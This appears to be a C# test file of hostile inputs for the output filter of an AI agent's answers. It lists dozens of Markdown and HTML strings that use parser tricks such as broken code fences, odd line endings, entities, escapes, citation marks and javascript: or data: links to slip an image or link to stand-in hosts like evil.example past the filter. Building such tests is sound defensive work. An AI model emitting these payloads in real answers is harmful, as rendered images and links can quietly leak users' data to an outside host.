namespace Lectern.Tests.Agent.Answers;

/// <summary>
/// Ways by which an address came through once, or nearly: each is an element of some public program before it is filtered.
/// </summary>
internal static class HostileRecipes
{
    /// <summary>
    /// Harmless as they are; something in them is left out, and what stood on both sides of it must not make an address.
    /// </summary>
    public static IReadOnlyList<string> Joined { get; } =
    [
        "x <img[]() src=\"https:evil.com/canary\">", "<[]()img src=/canary>", "<[2]img src=\"/canary\">",
        "<![](z)img src=/canary>",
        "<script[]() src=canary>", "<https[]():canary>", "<[2]/a href=canary>", "<b[]() style=\"background:url(canary)\">",
        "canary@[2]evil.com", "//e【2†s】vil.com/canary", "canary@[evil.com](z)", "/[]()/evil.com/canary", "canary@evil.\\[2\\]com",
        "mailto:canary@[2, 4]evil.com", HostileMarkdown.Known + "[]( )?canary", "known@known.example[]().canary.com",
        "canary@evil.![q](z)com", "ht[t]()ps://evil.com/canary", "www[]().evil.com/canary", "![x][]()(/canary)",
        "[x][2]: /canary\n\n![x]",
        "canary\\[x\\]@evil.com", "canary$ $@evil.com", "canary@e\\(a b\\)vil.com", "mailto:canary$x$@e",
        "//e\\[x\\]vil.com/canary", $"canary@{new string('a', 310)}.com",
    ];

    private const string Picture = "![x](//evil.example/?q=canary)";

    public static IReadOnlyList<(string Name, string Text)> All { get; } =
    [
        ("a picture", Picture),
        ("a backtick in the words behind a fence", $"```a`b\n{Picture}\n"),
        ("a fence indented by four blanks", $"    ```\n\n{Picture}\n\n    ```\n"),
        ("a fence indented by four blanks behind a list", $"- a\n\n      ```\n\n  {Picture}\n"),
        ("a fence indented by a tab", $"\t```\n\n{Picture}\n\n\t```\n"),
        ("a fence in a quotation that ends", $"> ```\n{Picture}\n> ```\n"),
        ("a fence in a list item that ends", $"- ```\n{Picture}\n- ```\n"),
        ("a fence that is closed too far to the right", $"```\ncode\n    ```\n```\n{Picture}\n"),
        ("a fence that is closed in a quotation of its code", $"```\n> ```\n```\n{Picture}\n"),
        ("a fence that some programs see closed", $"```\ncode\n```~~\n{Picture}\n"),
        ("CR as the only line end", $"```\rcode\r```\r{Picture}\r"),
        ("CR before LF in one place only", $"```\r\ncode\r```\n{Picture}\n"),
        ("a definition in a list and a quotation", "- > [x]: //evil.example/?q=canary\n\n![x]\n"),
        ("a definition behind tabs", "-\t[x]: //evil.example/?q=canary\n\n![x]\n"),
        ("a definition in the next line", "[x]:\n//evil.example/?q=canary\n\n![x]\n"),
        ("a definition with a label of two lines", "[x\ny]: //evil.example/?q=canary\n\n![x y]\n"),
        ("a definition behind a note's", "[^1]: [x]: //evil.example/?q=canary\n\n![x] [^1]\n"),
        ("a definition whose words are a mark",
            "[x]: //evil.example/?q=canary [2]\n\n![x]\n[x]: //evil.example/?q=canary\n\n![x]"),
        ("a label of 2,001 characters", $"![{new string('x', 2_001)}](//evil.example/?q=canary)"),
        ("a link's label of 2,001 characters", $"[{new string('x', 2_001)}](//evil.example/?q=canary)"),
        ("a tag behind the address", "![x](//evil.example/p?q=canary<b>)"),
        ("an address in angle brackets", "![x](<//evil.example/p?q=canary canary>)"),
        ("an address in the next line", "![x](\n//evil.example/p?q=canary\n)"),
        ("a title in the next line", "![x](//evil.example/p?q=canary\n\"t\")"),
        ("an entity in a picture's address", "![x](&#104;ttps://evil.example/canary)"),
        ("entities in an address of the text", "https&colon;&sol;&sol;evil.example/canary"),
        ("escapes in an address of the text", "https:\\/\\/evil.example/canary"),
        ("an address behind letters", "xhttp://www.evil.example/canary"),
        ("an address without a scheme", "//evil.example/canary"),
        ("a mail address", "canary@evil.example"),
        ("a mail address without a point", "mailto:canary@evil"),
        ("a known address and an escape", HostileMarkdown.Known + "\\?canary"),
        ("a known address and a bar", HostileMarkdown.Known + "|canary"),
        ("a known address and a tag", HostileMarkdown.Known + "<canary>"),
        ("a known address and its end behind a mark", HostileMarkdown.Known + "[2]?canary"),
        ("a known link whose title is one", $"[x]({HostileMarkdown.Known} \"](//evil.example/canary)\")"),
        ("a formula that takes a backtick", $"$`$ {Picture} `"),
        ("a formula in brackets that takes a backtick", $"\\(`\\) {Picture} `"),
        ("a formula of its own lines that takes a fence", $"$$\n```\n$$\n{Picture}\n```\n"),
        ("a deletion that takes a backtick", "~~a `b~~ //evil.example/canary`"),
        ("a table that takes a backtick", $"| a |\n|---|\n| ` | {Picture} | ` |\n"),
        ("a backtick alone in the line before", $"a ` b\nc ` {Picture} `"),
        ("HTML that takes a fence", $"<hr>\n```\n{Picture}\n\n{Picture}\n```\n"),
        ("HTML that takes a span of code", "<b>\n`<img src=\"//evil.example/canary\">`\n"),
        ("an escape in HTML", "<b>\n\\<img src=\"//evil.example/canary\">\n"),
        ("a tag in two lines", "<img\nsrc=\"//evil.example/canary\">"),
        ("a comment", "<!-- x --> <img src=\"//evil.example/canary\">"),
        ("a lazy line that a table ends", $"- a\n\n  | a | b |\n  |---|---|\nx | y |\n\n\n  ```\n{Picture}\n  ```\n"),
        ("a fence in a list that is none", $"> Item:\n\n\t> x\n\n> 10. y:\n>     ```\n>     {Picture}\n>     ```\n\n{Picture}"),
        ("brackets in brackets", "[![x](//evil.example/canary)](//evil.example/canary)"),
        ("a picture by reference", "![x][y]\n\n[y]: //evil.example/canary"),
        ("a definition whose address stands in a quotation's next line", "> [x]:\n> /canary\n\n![x]"),
        ("a definition whose address stands in the next line of a quotation in a list", "- > [x]:\n  > /canary 't'\n\n![x]"),
        ("an address behind another one", "https:\\/\\/a.b/c)http://[::1]/canary"),
        ("a backtick that belongs to a known address", HostileMarkdown.Known + "` <https:canary> `"),
        ("a bar in a mail's host", "canary@e|vil.com"),
        ("a bar in a host", "//e|vil.com/canary"),
        ("a mail's host that begins with a point", "mailto:canary@.e"),
        ("a tag in a mark", "Step 【2†<img src=/canary>】 of 5"),
        ("a picture in a mark", "a 【2†![x](/canary)】y"),
        ("a definition in a mark", "a\n\n【2†\r[x]: /canary\r】 = 3\n\n![x]"),
        ("a mark that ends behind the link that it begins in", "[see 【3](http://evil.example/canary) foo】 x"),
        ("such a mark in a quotation", "> The dome [see 【1](http://evil.example/canary \"t\") foo】 opens. [1]"),
        ("such a mark in a picture", "![a 【2](/canary) foo】 x"),
        ("a link at a line's beginning whose words begin with blanks", "Words.\n\n[    x](/canary \"t\") y\n![z](/canary)"),
        ("a picture at a line's beginning whose words begin with blanks", "Words.\n\n![    x](/canary) y\n![z](/canary)"),
        ("a script's address", "[x](javascript:canary)"),
        ("data as an address", "[x](data:text/html,canary)"),
    ];
}
